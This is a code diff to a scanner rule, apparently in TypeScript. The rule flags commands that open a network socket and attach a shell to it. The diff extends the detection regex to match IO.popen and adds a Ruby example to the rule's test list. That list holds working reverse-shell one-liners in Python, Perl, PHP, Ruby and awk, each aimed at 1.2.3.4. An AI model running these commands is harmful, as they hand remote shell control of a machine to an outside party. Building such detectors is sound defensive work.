@@ -154,7 +154,9 @@ export const networkCode: readonly Rule[] = [
       const code = codeOf(run)
       return (
         /socket|TCPSocket|fsockopen|net\.(?:connect|createConnection)|\/inet\/tcp|IO::Socket/i.test(code) &&
-        /\/bin\/(?:ba|da|z)?sh|pty\.spawn|dup2|cmd\.exe|getline|exec\s*\(?\s*["'](?:ba|da|z)?sh\b/.test(code)
+        /\/bin\/(?:ba|da|z)?sh|pty\.spawn|dup2|cmd\.exe|getline|exec\s*\(?\s*["'](?:ba|da|z)?sh\b|IO\.popen/.test(
+          code,
+        )
       )
     },
     risk: 'opens a connection and puts a shell on it',
@@ -162,6 +164,7 @@ export const networkCode: readonly Rule[] = [
       `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("1.2.3.4",9));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'`,
       `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,x);open(STDIN,">&S");exec("/bin/sh -i");'`,
       `php -r '$s=fsockopen("1.2.3.4",9);exec("/bin/sh -i <&3 >&3 2>&3");'`,
+      `ruby -rsocket -e 'c=TCPSocket.new("1.2.3.4",9);while(l=c.gets);IO.popen(l,"r"){|io|c.print io.read}end'`,
       `awk 'BEGIN {s = "/inet/tcp/0/1.2.3.4/9"; while(1) { s |& getline c; }}'`,
     ],
     passed: [
